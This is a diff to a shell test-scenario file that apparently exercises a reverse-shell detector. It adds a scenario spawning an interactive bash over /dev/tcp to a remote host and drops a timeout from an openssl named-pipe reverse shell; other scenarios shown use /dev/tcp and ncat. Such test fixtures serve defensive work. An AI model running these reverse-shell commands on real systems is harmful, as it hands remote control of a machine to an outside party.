@@ -11,6 +11,11 @@ bash_tcp_child() {
   as_guest bash -c "exec 5<>/dev/tcp/$far_ip/9002; sh <&5 >&5 2>&5; echo over"
 }
 
+scenario bash_tcp_wrapped "bash opens /dev/tcp and becomes timeout, which starts the shell"
+bash_tcp_wrapped() {
+  as_guest bash -c "exec timeout 5 bash -i >&/dev/tcp/$far_ip/9018 0>&1"
+}
+
 scenario bash_tcp_commands "bash runs line after line of what it reads from /dev/tcp; no shell is started"
 bash_tcp_commands() {
   as_guest bash -c "exec 5<>/dev/tcp/$far_ip/9003
@@ -103,7 +108,7 @@ nc_fifo() {
 scenario openssl_fifo "a named pipe, sh -i and openssl s_client in a ring"
 openssl_fifo() {
   needs openssl
-  as_guest sh -c "rm -f /tmp/g; mkfifo /tmp/g; sh -i </tmp/g 2>&1 | timeout 3 openssl s_client -quiet -connect $far_ip:443 >/tmp/g; rm -f /tmp/g"
+  as_guest sh -c "rm -f /tmp/g; mkfifo /tmp/g; sh -i </tmp/g 2>&1 | openssl s_client -quiet -connect $far_ip:443 >/tmp/g; rm -f /tmp/g"
 }
 
 scenario ncat_exec "ncat connects and runs sh for the connection"
